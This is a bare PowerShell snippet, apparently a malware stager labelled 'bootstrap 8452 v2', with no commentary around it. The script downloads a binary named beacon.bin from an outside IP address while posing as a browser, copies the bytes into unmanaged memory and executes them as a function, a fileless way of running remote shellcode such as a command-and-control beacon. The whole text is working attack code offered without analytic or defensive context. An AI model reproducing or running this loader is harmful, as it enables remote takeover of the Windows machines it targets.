$ExecutionContext.InvokeCommand.InvokeScript('# bootstrap 8452 v2
$wc = New-Object Net.WebClient
$wc.Headers[''User-Agent''] = ''Mozilla/5.0 (Windows NT 10.0)''
$bytes = $wc.DownloadData(''http://198.51.100.23/beacon.bin'')
$mem = [System.Runtime.InteropServices.Marshal]::AllocHGlobal($bytes.Length)
[System.Runtime.InteropServices.Marshal]::Copy($bytes, 0, $mem, $bytes.Length)
$f = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($mem, [Action])
$f.Invoke()
')